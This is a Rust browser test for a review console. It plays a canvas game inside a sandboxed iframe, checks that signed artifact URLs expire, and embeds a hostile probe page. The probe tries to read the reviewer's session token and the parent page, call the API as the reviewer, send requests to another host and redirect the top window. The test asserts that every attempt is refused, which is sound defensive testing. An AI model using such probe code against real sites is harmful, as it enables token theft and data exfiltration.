//! Playing a run's build in the console, in the real Chromium against a real `belay api` serving
//! an artifact origin of its own: a multi-file canvas game is played inside the review frame (the
//! test clicks Start and watches the score move), a hostile build tries from inside its frame to
//! reach the reviewer's token, the API, another host and the top window (each attempt fails),
//! signed URLs expire and open one run only, and *Download build* holds the whole tree.

use crate::common::{Belay, free_port, wait_until, wait_until_every};
use crate::console::{Console, canary};
use chromiumoxide::layout::Point;
use serde_json::{Value, json};
use std::time::Duration;

/// A 16×16 PNG: a yellow ball, the game's sprite.
const SPRITE_PNG_B64: &str = "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAO0lEQVR4nGNgoAX4f4LhPzZMkWaiDCGkGa8hxGrGagipmjEMGTWACgZQHI1USUjEGoJXMyFDiNJMKgAAScGwuFRoG8cAAAAASUVORK5CYII=";

const GAME_HTML: &str = r#"<!doctype html>
<html><head><meta charset="utf-8"><title>Ball run</title>
<style>body{margin:0;font:16px sans-serif;background:#f4f1e8} #start{position:absolute;left:8px;top:8px;width:96px;height:36px}
#hud{position:absolute;left:120px;top:16px} canvas{position:absolute;left:8px;top:52px;border:1px solid #333}</style></head>
<body><button id="start">Start</button><div id="hud">Score: <span id="score">0</span></div>
<canvas id="board" width="480" height="240"></canvas>
<script src="js/game.js"></script></body></html>
"#;

const GAME_JS: &str = r##"// Ball run: Start sets the ball rolling; every frame it rolls, the score goes up.
const board = document.getElementById("board");
const ctx = board.getContext("2d");
const sprite = new Image();
sprite.onload = () => { window.spriteLoaded = sprite.naturalWidth; draw(); };
sprite.src = "assets/sprite.png";
let score = 0, x = 0, running = false;
function draw() {
  ctx.fillStyle = "#0b3d91"; ctx.fillRect(0, 0, board.width, board.height);
  ctx.fillStyle = "#3a7d44"; ctx.fillRect(0, 200, board.width, 40);
  ctx.drawImage(sprite, x, 150, 48, 48);
  ctx.fillStyle = "#fff"; ctx.font = "20px sans-serif"; ctx.fillText("Score " + score, 12, 28);
}
document.getElementById("start").addEventListener("click", () => {
  if (running) return;
  running = true;
  setInterval(() => {
    x = (x + 6) % (board.width - 48);
    score += 1;
    document.getElementById("score").textContent = String(score);
    draw();
  }, 40);
});
draw();
"##;

/// A build that, from inside its frame, tries what a build must not do, and writes what happened
/// on its own page (`document.body.dataset.probe`, JSON).
fn hostile_html(api: &str, canary_port: u16) -> String {
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>probe</title></head><body><h1>probe</h1>
<form id="f" method="post" action="http://127.0.0.1:{canary_port}/form"><input name="t" value="x"></form>
<script>
(async () => {{
  const out = {{}};
  const seen = [];
  document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective + " " + e.blockedURI));
  const tryIt = async (name, f) => {{ try {{ out[name] = String(await f()); }} catch (e) {{ out[name] = "refused: " + (e && e.name); }} }};
  await tryIt("ownStorage", () => window.sessionStorage.getItem("belay.token"));
  await tryIt("localStorage", () => window.localStorage.getItem("belay.token"));
  await tryIt("parentStorage", () => window.parent.sessionStorage.getItem("belay.token"));
  await tryIt("parentDocument", () => window.parent.document.body.innerHTML.length);
  await tryIt("cookie", () => document.cookie);
  await tryIt("apiFetch", () => fetch("{api}/v1/account").then(r => r.status));
  await tryIt("ownOriginV1", () => fetch("/v1/account").then(r => r.status));
  await tryIt("otherHost", () => fetch("http://127.0.0.1:{canary_port}/leak").then(r => r.status));
  await tryIt("open", () => window.open("{api}/plans"));
  await tryIt("topNavigation", () => {{ window.top.location.href = "{api}/sign-in?stolen=1"; return "assigned"; }});
  await new Promise(r => setTimeout(r, 300));
  out.refusedByPolicy = seen.join(", ");
  document.body.dataset.probe = JSON.stringify(out);
}})();
</script></body></html>
"#
    )
}

/// A loopback HTTP server keeping the head of every request it is sent.
async fn recording_canary() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let s = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            let mut buf = vec![0u8; 16 * 1024];
            let i = {
                let mut seen = s.lock().unwrap();
                seen.push("(connected, nothing sent)".to_owned());
                seen.len() - 1
            };
            let n = match tokio::time::timeout(Duration::from_secs(10), conn.read(&mut buf)).await {
                Ok(Ok(n)) => n,
                _ => continue,
            };
            s.lock().unwrap()[i] = String::from_utf8_lossy(&buf[..n]).into_owned();
            let _ = conn.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n").await;
        }
    });
    (port, seen)
}

/// A script harness writing `files` (path, base64 bytes) and listing them as its artifacts.
fn build_script(files: &[(&str, String)]) -> String {
    let mut script = String::new();
    for (path, b64) in files {
        if let Some((dir, _)) = path.rsplit_once('/') {
            script.push_str(&format!("mkdir -p {dir}\n"));
        }
        script.push_str(&format!("printf '%s' '{b64}' | base64 -d > {path}\n"));
    }
    let listed: Vec<String> = files.iter().map(|(p, _)| format!("\"{p}\"")).collect();
    script.push_str(&format!(
        "printf '{{\"status\":\"completed\",\"loaded\":true,\"artifacts\":[{}]}}' > \"$BELAY_MANIFEST\"\n",
        listed.join(",")
    ));
    script
}

fn b64(bytes: &[u8]) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// belay with an artifact origin on a port of its own, its URLs living `ttl_secs`.
pub(crate) async fn belay_with_artifacts(ttl_secs: u32) -> (Belay, String) {
    let port = free_port();
    let listen = format!("127.0.0.1:{port}");
    let ttl = ttl_secs.to_string();
    let b = Belay::start_with_env(&[
        ("BELAY_API_ARTIFACT_LISTEN", listen.as_str()),
        ("BELAY_ARTIFACT_SECRET", "an-artifact-secret-of-at-least-32-bytes"),
        ("BELAY_ARTIFACT_URL_TTL_SECONDS", ttl.as_str()),
    ])
    .await;
    (b, format!("http://{listen}"))
}

/// Launches one job on `harness` (case `c`) and waits for its run; the run's id.
async fn run_of(b: &Belay, harness: &str) -> String {
    let job = b.launch(harness).await;
    let job = job["id"].as_str().unwrap().to_owned();
    b.wait_status(&job, &["completed"], Duration::from_secs(90)).await;
    let runs = b.get(&format!("/v1/runs?jobId={job}")).await;
    runs[0]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("no run of {job}: {runs}"))
        .to_owned()
}

/// A paused plan over case `c` × `harness`: its review queue shows that cell's runs.
async fn plan_of(b: &Belay, harness: &str) -> String {
    let (s, plan) = b
        .post(
            "/v1/coverage-plans",
            json!({
                "name": format!("play {harness}"),
                "cases": [{"slug": "c", "version": "1.0.0", "variant": "default"}],
                "combinations": [{"kind": "harness", "harness": harness, "model": "m"}],
                "runsPerCell": 1,
                "bufferTarget": {"kind": "bounded", "runs": 1},
                "autoTopUp": false,
                "paused": true
            }),
        )
        .await;
    assert_eq!(s, 201, "{plan}");
    plan["id"].as_str().unwrap().to_owned()
}

/// A DevTools session of the test's own on a build's frame. The frame is sandboxed, so Chromium
/// runs it out of process, as a target of its own that chromiumoxide does not drive; the test
/// attaches to it over the browser's DevTools socket to look inside, as DevTools would. The
/// console page itself cannot look in.
struct FrameSession {
    ws: async_tungstenite::WebSocketStream<async_tungstenite::tokio::ConnectStream>,
    session: String,
    next: i64,
}

impl FrameSession {
    /// Stops the page from holding new frames' targets for a debugger (chromiumoxide's page
    /// setup asks that, then never resumes frames), so a build's frame runs as in any browser.
    async fn let_frames_run(c: &Console) {
        use chromiumoxide::cdp::browser_protocol::target::SetAutoAttachParams;
        c.page.execute(SetAutoAttachParams::new(false, false)).await.unwrap();
    }

    /// Attaches to the frame whose URL starts with `src_prefix`, once it exists.
    async fn attach(c: &Console, src_prefix: &str) -> FrameSession {
        use chromiumoxide::cdp::browser_protocol::target::GetTargetsParams;
        let target = wait_until(
            &format!("a frame at {src_prefix}"),
            Duration::from_secs(30),
            async || {
                let targets = c
                    .browser
                    .execute(GetTargetsParams::default())
                    .await
                    .map_err(|e| e.to_string())?;
                let infos = &targets.result.target_infos;
                infos
                    .iter()
                    .find(|t| t.r#type == "iframe" && t.url.starts_with(src_prefix))
                    .map(|t| t.target_id.inner().clone())
                    .ok_or_else(|| format!("{:?}", infos.iter().map(|t| (&t.r#type, &t.url)).collect::<Vec<_>>()))
            },
        )
        .await;
        let (ws, _) = async_tungstenite::tokio::connect_async(c.browser.websocket_address().as_str())
            .await
            .unwrap();
        let mut f = FrameSession {
            ws,
            session: String::new(),
            next: 0,
        };
        let attached = f
            .call(
                None,
                "Target.attachToTarget",
                json!({"targetId": target, "flatten": true}),
            )
            .await;
        f.session = attached["sessionId"].as_str().unwrap().to_owned();
        f
    }

    async fn call(&mut self, session: Option<&str>, method: &str, params: Value) -> Value {
        use async_tungstenite::tungstenite::Message;
        use futures::StreamExt;
        self.next += 1;
        let id = self.next;
        let mut msg = json!({"id": id, "method": method, "params": params});
        if let Some(s) = session {
            msg["sessionId"] = json!(s);
        }
        self.ws.send(Message::text(msg.to_string())).await.unwrap();
        loop {
            let got = tokio::time::timeout(Duration::from_secs(15), self.ws.next())
                .await
                .unwrap_or_else(|_| panic!("no answer to {method}"))
                .unwrap()
                .unwrap();
            let Message::Text(text) = got else { continue };
            let v: Value = serde_json::from_str(text.as_str()).unwrap();
            if v["id"] == json!(id) {
                if !v["error"].is_null() {
                    return json!({"exceptionDetails": v["error"]});
                }
                return v["result"].clone();
            }
        }
    }

    /// The value of `js` in the frame, or why there is none.
    async fn eval(&mut self, js: &str) -> Result<Value, String> {
        let session = self.session.clone();
        let r = self
            .call(
                Some(&session),
                "Runtime.evaluate",
                json!({"expression": js, "returnByValue": true, "awaitPromise": true}),
            )
            .await;
        match r.get("exceptionDetails") {
            Some(e) => Err(e.to_string()),
            None => Ok(r["result"]["value"].clone()),
        }
    }

    /// Waits until `js` has a value in the frame other than null or false; that value.
    async fn until(&mut self, what: &str, js: &str) -> Value {
        wait_until(what, Duration::from_secs(30), async || match self.eval(js).await {
            Ok(v) if !v.is_null() && v != json!(false) => Ok(v),
            Ok(v) => Err(v.to_string()),
            Err(e) => Err(e),
        })
        .await
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_multi_file_game_is_played_in_the_review_frame_and_a_hostile_build_reaches_nothing() {
    let (b, artifacts) = belay_with_artifacts(900).await;
    b.catalogue().await;
    let sprite = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD
            .decode(SPRITE_PNG_B64)
            .unwrap()
    };
    b.harness(
        "game",
        2,
        &build_script(&[
            ("index.html", b64(GAME_HTML.as_bytes())),
            ("js/game.js", b64(GAME_JS.as_bytes())),
            ("assets/sprite.png", SPRITE_PNG_B64.to_owned()),
            ("build.log", b64(b"bundling 3 files\nbuild ok\n")),
        ]),
    )
    .await;
    let (canary_port, canary_hits) = canary().await;
    b.harness(
        "hostile",
        2,
        &build_script(&[("index.html", b64(hostile_html(&b.url, canary_port).as_bytes()))]),
    )
    .await;
    let game_run = run_of(&b, "game").await;
    let hostile_run = run_of(&b, "hostile").await;
    let game_plan = plan_of(&b, "game").await;
    let hostile_plan = plan_of(&b, "hostile").await;

    let c = Console::open_allowing(&b.url, std::slice::from_ref(&artifacts)).await;
    FrameSession::let_frames_run(&c).await;
    c.visit("/sign-in").await;
    c.page
        .evaluate(format!("sessionStorage.setItem('belay.token', {})", json!(b.token)))
        .await
        .unwrap();
    c.visit(&format!("/plans/{game_plan}/queue")).await;
    assert_eq!(
        c.eval::<String>("(document.querySelector('section.repeat') || {dataset: {}}).dataset.run || ''")
            .await,
        game_run
    );

    // The build plays from the artifact origin, scripts on, in a frame with no same-origin, no
    // top navigation and no popups; the page says what it may and may not do.
    let frame: Value = c
        .eval(
            "(() => { const f = document.querySelector('.artifact-frame'); \
              return {sandbox: f.getAttribute('sandbox'), src: f.src, run: f.dataset.run}; })()",
        )
        .await;
    assert_eq!(frame["sandbox"], "allow-scripts allow-pointer-lock", "{frame}");
    assert_eq!(frame["run"], json!(game_run));
    let src = frame["src"].as_str().unwrap().to_owned();
    assert!(
        src.starts_with(&format!("{artifacts}/r/{game_run}/v1.")) && src.ends_with("/index.html"),
        "{src}"
    );
    let rules = c.text(".frame-rules").await;
    for said in [
        "Scripts are on",
        "read your belay session or token",
        "call belay's API as you",
        "fetch from or send to any other host",
        "navigate or open this page",
    ] {
        assert!(rules.contains(said), "the page does not say {said:?}: {rules}");
    }
    // The text artifact is shown inline.
    assert!(
        c.text("pre.artifact-text[data-path='build.log']")
            .await
            .contains("build ok")
    );

    // Play: the game's script and sprite came from js/ and assets/ under the same token.
    let tree = src.trim_end_matches("index.html").to_owned();
    let mut game = FrameSession::attach(&c, &tree).await;
    let sprite_width = game.until("the sprite to load", "window.spriteLoaded || false").await;
    assert_eq!(sprite_width, json!(16));
    assert_eq!(
        game.eval("document.getElementById('score').textContent").await,
        Ok(json!("0"))
    );
    // A real click on Start, where the button shows on the screen.
    c.eval::<bool>("(document.querySelector('.artifact-frame').scrollIntoView({block: 'center'}), true)")
        .await;
    let at: Value = c
        .eval("(() => { const r = document.querySelector('.artifact-frame').getBoundingClientRect(); return {x: r.left, y: r.top}; })()")
        .await;
    let button = game
        .eval(
        "(() => { const r = document.getElementById('start').getBoundingClientRect(); return {x: r.left + r.width / 2, y: r.top + r.height / 2}; })()",
    )
    .await
    .unwrap();
    let point = Point::new(
        at["x"].as_f64().unwrap() + 1.0 + button["x"].as_f64().unwrap(),
        at["y"].as_f64().unwrap() + 1.0 + button["y"].as_f64().unwrap(),
    );
    // A frame run out of process takes clicks once the compositor routes input to it, a moment
    // after it loads: a click that landed before then is given again (Start is idempotent).
    wait_until_every(
        "a click on Start to start the game",
        Duration::from_secs(30),
        Duration::from_millis(500),
        async || {
            c.page.click(point).await.map_err(|e| e.to_string())?;
            match game.eval("document.getElementById('score').textContent").await {
                Ok(v) if v != json!("0") => Ok(()),
                other => Err(format!("{other:?}")),
            }
        },
    )
    .await;
    let score = game
        .until(
            "the score to move",
            "(() => { const s = Number(document.getElementById('score').textContent); return s >= 10 ? s : false; })()",
        )
        .await;
    assert!(score.as_i64().unwrap() >= 10, "{score}");
    c.screenshot("review-game-mid-play").await;
    c.assert_clean("playing the game");

    // Download build: the whole tree, one archive, from the artifact origin under the same token.
    let archive = c.eval::<String>("document.querySelector('.download-build').href").await;
    assert!(
        archive.starts_with(&format!("{artifacts}/archive/{game_run}/v1.")),
        "{archive}"
    );
    let resp = b.http.get(&archive).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.headers()["content-type"], "application/gzip");
    assert_eq!(
        resp.headers()["content-disposition"],
        format!("attachment; filename=\"{game_run}.tar.gz\"").as_str()
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("build.tar.gz"), resp.bytes().await.unwrap()).unwrap();
    let out = std::process::Command::new("tar")
        .args(["-xzf", "build.tar.gz"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let root = dir.path().join(&game_run);
    assert_eq!(std::fs::read_to_string(root.join("index.html")).unwrap(), GAME_HTML);
    assert_eq!(std::fs::read_to_string(root.join("js/game.js")).unwrap(), GAME_JS);
    assert_eq!(std::fs::read(root.join("assets/sprite.png")).unwrap(), sprite);
    assert_eq!(
        std::fs::read_to_string(root.join("build.log")).unwrap(),
        "bundling 3 files\nbuild ok\n"
    );

    // One run's URL opens no other's artifacts: its token in the other run's path is refused,
    // and the other run's files are not under its tree.
    let token = tree.trim_end_matches('/').rsplit('/').next().unwrap().to_owned();
    let resp = b
        .http
        .get(format!("{artifacts}/r/{hostile_run}/{token}/index.html"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 403);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(v["error"]["code"], "artifact_url_invalid", "{v}");
    let resp = b.http.get(format!("{tree}probe.html")).send().await.unwrap();
    assert_eq!(resp.status(), 404);
    let v: Value = resp.json().await.unwrap();
    assert_eq!(v["error"]["code"], "not_found", "{v}");
    // The artifact origin serves artifacts only: no /v1, no console.
    for path in ["/v1/account", "/", "/plans"] {
        let resp = b
            .http
            .get(format!("{artifacts}{path}"))
            .bearer_auth(&b.token)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404, "{path}");
    }

    // The hostile build: every attempt fails, each for its own reason.
    c.visit(&format!("/plans/{hostile_plan}/queue")).await;
    assert_eq!(
        c.eval::<String>("(document.querySelector('section.repeat') || {dataset: {}}).dataset.run || ''")
            .await,
        hostile_run
    );
    let src: String = c.eval("document.querySelector('.artifact-frame').src").await;
    let mut probe_frame = FrameSession::attach(&c, src.trim_end_matches("index.html")).await;
    let probe = probe_frame
        .until("the probe's report", "document.body.dataset.probe || false")
        .await;
    let probe: Value = serde_json::from_str(probe.as_str().unwrap()).unwrap();
    // Storage and the console: an opaque origin has no storage and cannot touch its parent.
    assert_eq!(probe["ownStorage"], "refused: SecurityError", "{probe}");
    assert_eq!(probe["localStorage"], "refused: SecurityError", "{probe}");
    assert_eq!(probe["parentStorage"], "refused: SecurityError", "{probe}");
    assert_eq!(probe["parentDocument"], "refused: SecurityError", "{probe}");
    assert_eq!(probe["cookie"], "refused: SecurityError", "{probe}");
    // The API, as the reviewer or at all: the policy refuses the connection. On its own origin
    // there is no /v1 (404 above), and a refusal is not even readable from the frame.
    assert_eq!(probe["apiFetch"], "refused: TypeError", "{probe}");
    assert_eq!(probe["ownOriginV1"], "refused: TypeError", "{probe}");
    // Another host: refused before any request leaves.
    assert_eq!(probe["otherHost"], "refused: TypeError", "{probe}");
    // No popup, and the top window stays where it was.
    assert_eq!(probe["open"], "null", "{probe}");
    assert_eq!(probe["topNavigation"], "refused: SecurityError", "{probe}");
    assert_eq!(
        c.page.url().await.unwrap().unwrap(),
        format!("{}/plans/{hostile_plan}/queue", b.url)
    );
    assert_eq!(
        c.eval::<String>("(document.querySelector('section.repeat') || {dataset: {}}).dataset.run || ''")
            .await,
        hostile_run,
        "the console is still there"
    );
    assert!(
        c.eval::<bool>("sessionStorage.getItem('belay.token') !== null").await,
        "the console still holds its token"
    );
    // A form posted to another host: forms are off in the frame, so nothing is sent and the
    // frame stays where it is.
    let path = probe_frame
        .eval("(document.getElementById('f').submit(), location.pathname)")
        .await;
    assert_eq!(
        path,
        Ok(json!(format!(
            "/r/{hostile_run}/{}/index.html",
            src.split('/').nth(5).unwrap()
        )))
    );
    assert_eq!(*canary_hits.lock().unwrap(), 0, "the build reached another host");
    {
        let j = c.journal.lock().unwrap();
        assert!(j.outside.is_empty(), "requests outside belay: {:?}", j.outside);
    }

    // Navigating its own frame to another host: refused too (the frames' policies allow the
    // artifact origin only). The browser may open a speculative connection to the host as the
    // navigation starts; no request goes over it, and the frame shows the browser's error page.
    let (sink_port, sink) = recording_canary().await;
    let away = format!("http://127.0.0.1:{sink_port}/away");
    let _ = probe_frame.eval(&format!("(location.href = {}, 1)", json!(away))).await;
    let mut gone = FrameSession::attach(&c, &away).await;
    let shown = gone
        .until(
            "the frame to show the refusal",
            "location.href.startsWith('chrome-error:') ? location.href : false",
        )
        .await;
    assert_eq!(shown, json!("chrome-error://chromewebdata/"));
    let sent: Vec<String> = sink
        .lock()
        .unwrap()
        .iter()
        .filter(|r| !r.starts_with("(connected"))
        .cloned()
        .collect();
    assert!(
        sent.is_empty(),
        "the build's navigation reached the other host: {sent:?}"
    );
    assert_eq!(
        c.eval::<String>("(document.querySelector('section.repeat') || {dataset: {}}).dataset.run || ''")
            .await,
        hostile_run,
        "the console is still there"
    );

    // Several runs on one page, as a cell's repeats are shown: each view frames its own run under
    // its own URL, and each build loads.
    let shown: usize = c
        .eval(&format!(
            "(async () => {{ const runs = await Promise.all({}.map((id) => api('GET', '/v1/runs/' + id))); \
               const views = await Promise.all(runs.map((r) => artifactView(r))); \
               const box = h('div', {{ id: 'side-by-side' }}, views); \
               document.getElementById('main').append(box); return views.length; }})()",
            json!([game_run, hostile_run])
        ))
        .await;
    assert_eq!(shown, 2);
    let frames: Vec<Value> = c
        .eval("[...document.querySelectorAll('#side-by-side .artifact-frame')].map((f) => ({run: f.dataset.run, src: f.src}))")
        .await;
    assert_eq!(frames.len(), 2, "{frames:?}");
    for (f, run) in frames.iter().zip([&game_run, &hostile_run]) {
        assert_eq!(&f["run"], run, "{frames:?}");
        let src = f["src"].as_str().unwrap();
        assert!(src.starts_with(&format!("{artifacts}/r/{run}/")), "{src}");
        FrameSession::attach(&c, src.trim_end_matches("index.html")).await;
    }
    assert_eq!(c.count("#side-by-side .download-build").await, 2);
    c.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_signed_artifact_url_expires_and_is_refused_after() {
    let (b, artifacts) = belay_with_artifacts(3).await;
    b.catalogue().await;
    b.harness("game", 1, &build_script(&[("index.html", b64(b"<p>hello</p>"))]))
        .await;
    let run = run_of(&b, "game").await;
    let (s, grant) = b.post(&format!("/v1/runs/{run}/artifact-url"), json!({})).await;
    assert_eq!(s, 200, "{grant}");
    let url = grant["url"].as_str().unwrap().to_owned();
    assert!(url.starts_with(&format!("{artifacts}/r/{run}/")), "{grant}");
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let expires = grant["expiresAt"].as_i64().unwrap();
    assert!((now + 1..=now + 4).contains(&expires), "{grant} at {now}");
    let resp = b.http.get(format!("{url}index.html")).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    let csp = resp.headers()["content-security-policy"].to_str().unwrap().to_owned();
    assert!(csp.contains(&format!("connect-src 'self' {artifacts};")), "{csp}");
    assert!(csp.contains(&format!("frame-ancestors {}", b.url)), "{csp}");
    assert_eq!(resp.text().await.unwrap(), "<p>hello</p>");

    // A tampered token is refused at once; the real one once its three seconds are up.
    let tampered = url.replacen("/v1.", "/v1.9", 1);
    let resp = b.http.get(format!("{tampered}index.html")).send().await.unwrap();
    assert_eq!(resp.status(), 403);
    let refused = wait_until_every(
        "the URL to expire",
        Duration::from_secs(30),
        Duration::from_millis(300),
        async || {
            let resp = b.http.get(format!("{url}index.html")).send().await.unwrap();
            if resp.status() == 403 {
                Ok(resp.json::<Value>().await.unwrap())
            } else {
                Err(resp.status().to_string())
            }
        },
    )
    .await;
    assert_eq!(refused["error"]["code"], "artifact_url_expired", "{refused}");
    assert!(
        refused["error"]["message"].as_str().unwrap().contains("expired"),
        "{refused}"
    );
    let resp = b.http.get(grant["archiveUrl"].as_str().unwrap()).send().await.unwrap();
    assert_eq!(resp.status(), 403, "the archive expires with the tree");

    // In the console: the frame's URL expires too (reloaded, the build is refused), and
    // *Restart build* plays it again under a fresh one.
    let plan = plan_of(&b, "game").await;
    let c = Console::open_allowing(&b.url, std::slice::from_ref(&artifacts)).await;
    FrameSession::let_frames_run(&c).await;
    c.visit("/sign-in").await;
    c.page
        .evaluate(format!("sessionStorage.setItem('belay.token', {})", json!(b.token)))
        .await
        .unwrap();
    c.visit(&format!("/plans/{plan}/queue")).await;
    let first: String = c.eval("document.querySelector('.artifact-frame').src").await;
    let expires_at = first
        .split('/')
        .nth(5)
        .unwrap()
        .split('.')
        .nth(1)
        .unwrap()
        .parse::<i64>()
        .unwrap();
    wait_until_every(
        "the frame's URL to expire",
        Duration::from_secs(30),
        Duration::from_millis(300),
        async || {
            let now = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_secs() as i64;
            if now > expires_at {
                Ok(())
            } else {
                Err(format!("{now} <= {expires_at}"))
            }
        },
    )
    .await;
    c.eval::<bool>("(() => { const f = document.querySelector('.artifact-frame'); f.src = f.src; return true; })()")
        .await;
    let mut frame = FrameSession::attach(&c, first.trim_end_matches("index.html")).await;
    let refused = frame
        .until(
            "the reloaded frame to show the refusal",
            "document.body && document.body.innerText.includes('artifact_url_expired') ? document.body.innerText : false",
        )
        .await;
    assert!(refused.as_str().unwrap().contains("expired"), "{refused}");
    c.click(".reload-build").await;
    let again = wait_until("a fresh URL in the frame", Duration::from_secs(30), async || {
        let src: String = c.eval("document.querySelector('.artifact-frame').src").await;
        if src != first { Ok(src) } else { Err("the same URL") }
    })
    .await;
    assert!(again.starts_with(&format!("{artifacts}/r/{run}/v1.")), "{again}");
    let mut frame = FrameSession::attach(&c, again.trim_end_matches("index.html")).await;
    let shown = frame
        .until(
            "the build again",
            "document.body && document.body.innerText.includes('hello') ? document.body.innerText : false",
        )
        .await;
    assert_eq!(shown, json!("hello"));
    c.close().await;

    // Minting needs an account, and a run that exists.
    let (s, _) = b
        .request("POST", &format!("/v1/runs/{run}/artifact-url"), None, None)
        .await;
    assert_eq!(s, 401);
    let (s, v) = b.post("/v1/runs/run_nosuch/artifact-url", json!({})).await;
    assert_eq!((s, v["error"]["code"].as_str()), (404, Some("not_found")), "{v}");
}
